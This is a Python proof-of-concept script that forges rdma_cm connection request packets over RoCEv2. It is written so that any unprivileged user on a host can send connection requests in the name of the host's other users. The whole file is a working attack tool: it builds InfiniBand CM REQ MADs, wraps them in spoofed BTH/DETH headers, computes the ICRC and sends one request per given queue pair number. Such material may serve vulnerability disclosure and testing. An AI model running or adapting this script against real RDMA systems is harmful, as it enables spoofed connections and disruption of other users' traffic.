# SPDX-License-Identifier: MIT
"""A user of a host who writes connection requests in the name of its other users: REQs of rdma_cm from this host's address.

    forged_request.py SOURCE DESTINATION PORT GUID QPN...

One for each queue pair number, all from a port of the system's choice, as any user may send them.
"""

import socket
import struct
import sys
import zlib

UD_SEND_ONLY, DEFAULT_PKEY, GSI, GSI_QKEY = 0x64, 0xffff, 1, 0x80010000
CM_CLASS, SEND, REQ = 7, 3, 0x10
ROCE = 4791


def mapped(address):
    return bytes(10) + b"\xff\xff" + socket.inet_aton(address)


def request(source, destination, port, guid, qpn):
    """IBA 12.6.5, with the addresses of rdma_cm before the private data (annex A11)."""
    mad = bytearray(256)
    struct.pack_into(">BBBBHHQHHI", mad, 0, 1, CM_CLASS, 2, SEND, 0, 0, 0x6660000000000000 | qpn, REQ, 0, 0)
    struct.pack_into(">IIQQ", mad, 24, 0x66600000 | qpn, 0, 0x0000000001060000 | port, guid)
    struct.pack_into(">I", mad, 56, qpn << 8 | 1)
    struct.pack_into(">I", mad, 60, 1)
    struct.pack_into(">I", mad, 68, 0x123456 << 8 | 20 << 3 | 7)
    struct.pack_into(">HBB", mad, 72, DEFAULT_PKEY, 3 << 4 | 7, 15 << 4)
    struct.pack_into(">HH16s16s", mad, 76, 0xffff, 0xffff, mapped(source), mapped(destination))
    struct.pack_into(">BB", mad, 117, 64, 0)
    struct.pack_into(">BBH12x4s12x4s", mad, 164, 0, 4 << 4, 4000, socket.inet_aton(source), socket.inet_aton(destination))
    return bytes(mad)


def packet(source, destination, from_port, mad):
    bth = struct.pack(">BBHII", UD_SEND_ONLY, 0x40, DEFAULT_PKEY, GSI, mad[11])
    deth = struct.pack(">II", GSI_QKEY, GSI)
    payload = bth + deth + mad
    udp = struct.pack(">HHHH", from_port, ROCE, 8 + len(payload) + 4, 0xffff)
    # What routers change is covered as ones (annex A17): type of service, time to live, checksums, resv8a.
    ip = struct.pack(">BBHHHBBH4s4s", 0x45, 0xff, 20 + len(udp) + len(payload) + 4, 0, 0x4000, 0xff, 17, 0xffff, socket.inet_aton(source),
                     socket.inet_aton(destination))
    covered = b"\xff" * 8 + ip + udp + bth[:4] + b"\xff" + bth[5:] + deth + mad
    return payload + struct.pack("<I", zlib.crc32(covered))


def main(source, destination, port, guid, *qpns):
    out = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    out.setsockopt(socket.IPPROTO_IP, 10, 2)    # IP_MTU_DISCOVER, IP_PMTUDISC_DO: the identification is 0
    out.bind((source, 0))
    for qpn in qpns:
        mad = request(source, destination, int(port), int(guid, 16), int(qpn))
        out.sendto(packet(source, destination, out.getsockname()[1], mad), (destination, ROCE))


main(*sys.argv[1:])
